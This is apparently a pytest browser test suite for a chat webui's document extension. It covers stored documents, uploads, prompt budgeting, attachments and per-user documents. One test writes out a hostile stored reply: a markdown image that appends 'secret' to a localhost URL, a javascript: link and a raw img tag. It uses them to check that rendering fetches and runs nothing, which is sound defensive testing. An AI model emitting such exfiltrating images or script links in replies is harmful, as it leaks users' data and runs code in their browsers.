"""Documents that outlive their page, files that the webui attaches, and replies that would fetch something."""

from __future__ import annotations

import json
import re

import pytest

from tests.browser.chromium import chromium_page
from tests.browser.document_list import LIST, exact_prompt, press, row, titles, upload, wait_for_titles
from tests.browser.test_webui_documents import add, click, open_page, panel, says_the_chat, send, settled
from tests.browser.test_workbench_documents import question_over_documents

pytestmark = [pytest.mark.browser, pytest.mark.host, pytest.mark.slow]
SETTINGS = "mode: instruct\nmax_new_tokens: 32\n"
HARBOR, QUESTION = "The color of the harbor is teal.", "What is the color of the harbor?"
HOSTILE = "Done. ![x](http://127.0.0.1:9/leak.png?d=secret) [y](javascript:alert(1)) <img src=http://127.0.0.1:9/z.png>"


@pytest.fixture(scope="module")
def open_server(start, models):
    def run(*arguments, **options):
        loading = ["--model", models.scaled.name, "--loader", "Transformers", *arguments]
        return start(models.all(), arguments=loading, settings=SETTINGS, **options)

    return run


@pytest.fixture(scope="module")
def server(open_server):
    return open_server()


@pytest.fixture
def browser_tab():
    with chromium_page(1280, 1400) as page:
        yield page


@pytest.fixture
def page(newest, browser_tab, server, host):
    return open_page(browser_tab, server, host)


def add_to(page, scope):
    click(page, page.locator("#airoboros-longctx-add-to").get_by_text(scope, exact=True))
    page.wait_for_timeout(1000)


def reopened(page, server):
    """The page as it opens, in the chat that was open last."""
    page.goto(server.url, wait_until="domcontentloaded")
    page.locator("#chat-input textarea, #main textarea").first.wait_for(state="visible", timeout=120_000)
    page.wait_for_timeout(4000)
    panel(page).locator(".label-wrap").first.evaluate("label => label.click()")
    panel(page).locator(LIST).wait_for()
    return page


def test_documents_survive_a_restart_of_the_server(newest, browser_tab, open_server, host):
    server = open_server()
    page = open_page(browser_tab, server, host)
    add(page, "Mine", "", HARBOR)
    send(page, "Hello.")
    settled(page)
    add_to(page, "Everywhere")
    add(page, "Everybody", "", "The color of the tower is red.")
    server.stop()
    again = open_server(home=server.home, user_data=server.user_data)
    reopened(page, again)
    wait_for_titles(page, *(["Everybody", "Mine"] if says_the_chat(host) else ["Everybody"]))
    send(page, "What is the color of the tower?")
    assert "red" in settled(page)


@pytest.mark.thorough
def test_three_files_a_question_the_answer_and_the_document_that_carries_it(page):
    upload(
        page,
        ("harbor.txt", HARBOR),
        ("tower.md", "The color of the tower is red."),
        ("gate.csv", "The color of the gate is,gray"),
    )
    wait_for_titles(page, "harbor", "tower", "gate")
    send(page, QUESTION)
    assert "teal" in settled(page)
    link = page.locator(".airoboros-longctx-sources a").last
    assert link.inner_text() == "harbor"
    link.dispatch_event("click")
    page.locator(".airoboros-longctx-preview mark", has_text=HARBOR).wait_for()


@pytest.mark.parametrize(
    ("choice", "said"),
    [
        ("Keep the passages that matter for this question", "passages"),
        pytest.param(
            "Keep whole documents only, those first in the list first", "left out", marks=pytest.mark.thorough
        ),
        pytest.param("Shorten every document alike", "keeps", marks=pytest.mark.thorough),
    ],
)
def test_what_does_not_fit_is_left_out_as_chosen_and_said(page, choice, said):
    question = question_over_documents(503, 1500)  # half as much again as the window
    for number, document in enumerate(question.documents):
        upload(page, (f"part {number}.txt", document.text))
        row(page, f"part {number}").wait_for()
    click(page, panel(page).get_by_label("Answer from these documents only"))
    click(page, page.locator("#airoboros-longctx-too-long").get_by_text(choice, exact=True))
    page.wait_for_timeout(1500)
    box = page.locator("#chat-input textarea, #main textarea").first
    box.fill(question.instruction)
    click(page, panel(page).get_by_role("button", name="Show the exact prompt"))
    prompt = exact_prompt(page, question.instruction)
    assert question.value in prompt
    assert prompt.count("BEGININPUT") == prompt.count("ENDINPUT") > 0
    page.locator("#airoboros-longctx-budget", has_text="tokens too many").first.wait_for()
    assert said in page.locator("#airoboros-longctx-budget").first.inner_text()
    send(page, question.instruction)
    assert question.value in settled(page)


def test_an_attached_file_is_a_document_of_the_chat(page, server):
    if not server.has_attachments:
        pytest.skip("this release attaches no files to messages")
    page.locator("#chat-input input[type=file]").set_input_files(
        files=[{"name": "letter.txt", "mimeType": "text/plain", "buffer": HARBOR.encode()}]
    )
    page.wait_for_timeout(1500)
    send(page, QUESTION)
    assert "teal" in settled(page)
    page.locator("#chat-input textarea").fill("And now?")
    click(page, panel(page).get_by_role("button", name="Show the exact prompt"))
    prompt = exact_prompt(page, "And now?")
    assert f"BEGININPUT\nBEGINCONTEXT\ntitle: letter.txt\nENDCONTEXT\n{HARBOR}\nENDINPUT" in prompt
    assert "ATTACHMENTS" not in prompt
    assert prompt.count(HARBOR) == 1


def test_a_renamed_and_a_branched_chat_keep_their_documents_and_a_deleted_one_does_not(page, host):
    if not (host.webui / "modules" / "api").is_dir():
        pytest.skip("looked at in the newest release")
    add(page, "Harbor", "", HARBOR)
    send(page, QUESTION)
    settled(page)
    force_click(page, "button:has-text('Rename')")
    page.get_by_label("Rename to:").fill("The harbor")
    page.locator("#rename-row button:has-text('Confirm')").evaluate("button => button.click()")
    page.locator("#past-chats label.selected", has_text="The harbor").wait_for(state="attached")
    page.wait_for_timeout(1500)
    assert titles(page) == ["Harbor"]
    page.wait_for_timeout(1100)  # a branch is named by the second
    force_click(page, "#Branch")
    page.wait_for_timeout(3000)
    wait_for_titles(page, "Harbor")
    press(page, "Remove", "Harbor")
    wait_for_titles(page)
    page.locator("#past-chats label", has_text="The harbor").first.evaluate("label => label.click()")
    wait_for_titles(page, "Harbor")


def force_click(page, selector):
    page.locator(selector).first.evaluate("button => button.click()")


@pytest.mark.thorough
def test_a_stored_reply_fetches_nothing_and_runs_nothing(browser_tab, open_server, host):
    if not (host.webui / "modules" / "api").is_dir():
        pytest.skip("tests/host/test_replies.py looks at every release's own Markdown")
    server = open_server()
    mark = json.dumps({"code": False, "documents": True, "checks": {}})
    history = {
        "internal": [["What?", HOSTILE]],
        "visible": [["What?", HOSTILE.replace("<", "&lt;")]],
        "metadata": {"user_0": {"timestamp": ""}, "assistant_0": {"timestamp": "", "airoboros_longctx": mark}},
    }
    chats = server.user_data / "logs" / "instruct"
    chats.mkdir(parents=True, exist_ok=True)
    (chats / "20990101-00-00-00.json").write_text(json.dumps(history))
    fetched = []
    browser_tab.on("request", lambda request: fetched.append(request.url))
    browser_tab.set_default_timeout(20_000)
    reopened(browser_tab, server)
    reply = browser_tab.locator(".assistant-message .message-body").last
    reply.get_by_text("http://127.0.0.1:9/leak.png?d=secret").wait_for()
    assert not [url for url in fetched if ":9/" in url]
    assert reply.locator("img, a[href^='javascript']").count() == 0


@pytest.mark.thorough
def test_people_who_log_in_have_documents_of_their_own(newest, open_server, host):
    server = open_server("--multi-user", "--gradio-auth", "ada:one,bob:two")
    with chromium_page(1280, 1400) as page:
        for name, password, mine in (("ada", "one", "Ada's"), ("bob", "two", "Bob's")):
            log_in(page, server, name, password)
            assert titles(page) == []
            add_to(page, "Everywhere")
            add(page, mine, "", HARBOR)
            page.context.clear_cookies()
        log_in(page, server, "ada", "one")
        wait_for_titles(page, "Ada's")


def log_in(page, server, name, password):
    page.set_default_timeout(20_000)
    page.goto(server.url, wait_until="domcontentloaded")
    page.get_by_label("username").or_(page.locator("input").first).first.fill(name)
    page.locator("input[type=password]").fill(password)
    page.get_by_role("button", name=re.compile("login", re.IGNORECASE)).click()
    page.locator("#chat-input textarea, #main textarea").first.wait_for(state="visible", timeout=120_000)
    page.wait_for_timeout(4000)
    panel(page).locator(".label-wrap").first.evaluate("label => label.click()")
    panel(page).locator(LIST).wait_for()
    page.wait_for_timeout(1000)
